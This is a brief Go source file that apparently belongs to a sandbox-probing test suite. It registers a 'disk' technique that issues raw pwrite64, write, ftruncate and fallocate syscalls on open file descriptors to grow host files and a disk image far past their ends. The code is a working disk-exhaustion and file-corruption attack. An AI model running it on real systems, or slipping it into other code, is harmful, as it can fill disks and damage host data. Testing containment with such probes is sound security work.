package main

import (
	"syscall"

	"example.com/hostile/attack"
)

func init() { techniques["disk"] = tryDisk }

// tryDisk makes files of the host grow, by writing behind the end of a disk image and of every other open file.
func tryDisk() {
	block := attack.String(string(make([]byte, 65536)))
	for _, way := range attack.Ways {
		for fd := uintptr(3); fd < 12; fd++ {
			for _, at := range []uintptr{1 << 20, 1 << 33, 1<<63 - 65536} {
				way(syscall.SYS_PWRITE64, fd, block, 65536, at, 0, 0)
			}
			for range 64 {
				way(syscall.SYS_WRITE, fd, block, 65536, 0, 0, 0)
			}
			way(syscall.SYS_FTRUNCATE, fd, 1<<33, 0, 0, 0, 0)
			way(syscall.SYS_FALLOCATE, fd, 0, 1<<20, 1<<20, 0, 0)
		}
	}
	println("all was tried")
}
